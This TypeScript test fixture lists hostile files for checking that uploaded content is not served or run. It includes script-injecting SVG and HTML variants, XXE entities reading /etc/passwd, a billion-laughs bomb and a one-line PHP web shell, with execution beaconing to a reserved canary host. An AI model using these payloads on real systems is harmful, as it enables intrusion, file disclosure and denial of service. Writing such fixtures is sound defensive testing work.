/** What a script of ours does when it runs after all: the page keeps a note, and a foreign host is asked. */
export const CANARY_HOST = 'canary.invalid';
/** A script that leaves the note and asks. */
export const RUN = `window.__canary=(window.__canary||0)+1;fetch('https://${CANARY_HOST}/ran')`;
/** The script as an element. */
export const SCRIPT = `<script>${RUN}</script>`;
/** A page that runs it in three ways. */
export const HTML = `<!doctype html><html><head><title>x</title>${SCRIPT}</head><body onload="${RUN}"><img src=x onerror="${RUN}"></body></html>`;
/** How a drawing begins. */
export const SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';

/** Content that a browser would run: what is meant, the name, the content. */
type ActiveContent = readonly [title: string, name: string, content: Buffer | string];

/** Drawings that run or load something. */
export const HOSTILE_DRAWINGS: readonly ActiveContent[] = [
  ['svg with a script', 'a.svg', `${SVG_OPEN}>${SCRIPT}</svg>`],
  ['svg with onload', 'b.svg', `${SVG_OPEN} onload="${RUN}"><rect width="9" height="9"/></svg>`],
  [
    'svg with a foreign object',
    'c.svg',
    `${SVG_OPEN}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/></foreignObject></svg>`,
  ],
  [
    'svg with a script link',
    'd.svg',
    `${SVG_OPEN}><a xlink:href="javascript:${RUN}"><text y="9">x</text></a></svg>`,
  ],
  [
    'svg that animates an address',
    'e.svg',
    `${SVG_OPEN}><a><animate attributeName="href" values="javascript:${RUN}"/></a></svg>`,
  ],
  ['svg that loads a picture', 'f.svg', `${SVG_OPEN}><image href="https://${CANARY_HOST}/x.png"/></svg>`],
  [
    'svg with a style sheet from elsewhere',
    'g.svg',
    `<?xml-stylesheet href="https://${CANARY_HOST}/x.css"?>${SVG_OPEN}/>`,
  ],
  [
    'svg with an external entity',
    'h.svg',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG_OPEN}><text>&x;</text></svg>`,
  ],
  [
    'svg of a billion laughs',
    'i.svg',
    `<!DOCTYPE svg [<!ENTITY a "ha">${'bcdefghij'
      .split('')
      .map((one, index) => `<!ENTITY ${one} "${`&${'abcdefghi'[index] ?? 'a'};`.repeat(10)}">`)
      .join('')}]>${SVG_OPEN}><text>&j;</text></svg>`,
  ],
  ['svg in UTF-16', 'j.svg', Buffer.from(`\ufeff${SVG_OPEN}>${SCRIPT}</svg>`, 'utf16le')],
  ['svg behind white space', 'k.svg', `${' \n'.repeat(2000)}${SVG_OPEN}>${SCRIPT}</svg>`],
  ['svg behind a comment', 'l.svg', `<!-- ${'x'.repeat(3000)} -->${SVG_OPEN}>${SCRIPT}</svg>`],
  ['svg that uses itself', 'm.svg', `${SVG_OPEN}><g id="a"><use href="#a"/><use href="#a"/></g></svg>`],
  ['svg with a handler in CDATA', 'n.svg', `${SVG_OPEN}><script><![CDATA[${RUN}]]></script></svg>`],
  ['svg with a set element', 'o.svg', `${SVG_OPEN}><set attributeName="onmouseover" to="${RUN}"/></svg>`],
  [
    'svg of an enormous size',
    'p.svg',
    `${SVG_OPEN} width="999999" height="999999"><rect width="1" height="1"/></svg>`,
  ],
];

/** Pages, scripts, styles and programs. */
export const HOSTILE_PAGES: readonly ActiveContent[] = [
  ['html', 'a.html', HTML],
  ['html without an ending', 'page', HTML],
  ['xhtml', 'a.xhtml', `<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`],
  ['html behind a byte order mark', 'bom.html', `\ufeff${HTML}`],
  ['html in UTF-16', 'utf16.html', Buffer.from(`\ufeff${HTML}`, 'utf16le')],
  ['html in UTF-7', 'utf7.html', `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`],
  ['html in capitals', 'caps.HTM', HTML.toUpperCase()],
  ['html behind white space', 'space.html', `${'\n'.repeat(4000)}${HTML}`],
  ['html behind a kilobyte of text', 'late.html', `${'text '.repeat(400)}${HTML}`],
  ['html in a comment of another page', 'comment.html', `<!-- --!>${SCRIPT}`],
  [
    'mhtml',
    'a.mhtml',
    `MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n--b\nContent-Type: text/html\n\n${HTML}\n--b--`,
  ],
  [
    'xml with a style sheet that is script',
    'a.xml',
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x id="x"><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script></x>`,
  ],
  [
    'xml with an external entity',
    'xxe.xml',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  ],
  [
    'mathml with a script link',
    'a.mml',
    `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${RUN}"><mtext>x</mtext></math>`,
  ],
  ['javascript', 'a.js', RUN],
  ['javascript as a module', 'a.mjs', `export default ${RUN}`],
  ['a service worker', 'sw.js', `self.addEventListener('fetch',()=>{});${RUN}`],
  [
    'css that loads',
    'a.css',
    `@import "https://${CANARY_HOST}/x.css"; body{background:url(https://${CANARY_HOST}/x)}`,
  ],
  ['a web manifest', 'a.webmanifest', `{"start_url":"https://${CANARY_HOST}/"}`],
  ['an htc behaviour', 'a.htc', `<PUBLIC:COMPONENT><SCRIPT>${RUN}</SCRIPT></PUBLIC:COMPONENT>`],
  ['flash', 'a.swf', Buffer.concat([Buffer.from('FWS\u0009'), Buffer.alloc(60)])],
  ['a shortcut', 'a.url', `[InternetShortcut]\nURL=https://${CANARY_HOST}/`],
  ['a desktop entry', 'a.desktop', '[Desktop Entry]\nType=Application\nExec=xterm'],
  ['a shell script', 'a.sh', '#!/bin/sh\necho run'],
  ['a batch file', 'a.bat', '@echo off\r\nstart cmd'],
  ['a Windows program', 'a.exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126)])],
  ['a Linux program', 'a.elf', Buffer.concat([Buffer.from('\u007fELF'), Buffer.alloc(60)])],
  ['a web page of PHP', 'a.php', '<?php system($_GET["c"]); ?>'],
];
